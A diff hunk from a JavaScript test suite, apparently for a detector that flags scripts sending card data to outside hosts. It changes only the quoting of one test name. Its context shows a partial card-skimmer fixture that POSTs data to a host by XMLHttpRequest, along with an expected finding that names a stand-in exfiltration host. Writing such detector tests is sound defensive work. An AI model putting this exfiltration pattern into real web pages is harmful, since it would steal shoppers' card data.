@@ -30,7 +30,7 @@ describe('sends the first look cannot name', () => {
     expect(v.findings.map((f) => f.message).join('\n')).toContain('https://edge-metrics.example/q')
   })
 
-  it("card values handed to a method the script assigns on a prototype, sent by another it calls on this", () => {
+  it('card values handed to a method the script assigns on a prototype, sent by another it calls on this', () => {
     const source = `function Link(host) { this.host = host }
       Link.prototype.post = function (body) {
         var x = new XMLHttpRequest(); x.open('POST', this.host + '/poll?t=' + Date.now()); x.send(body)
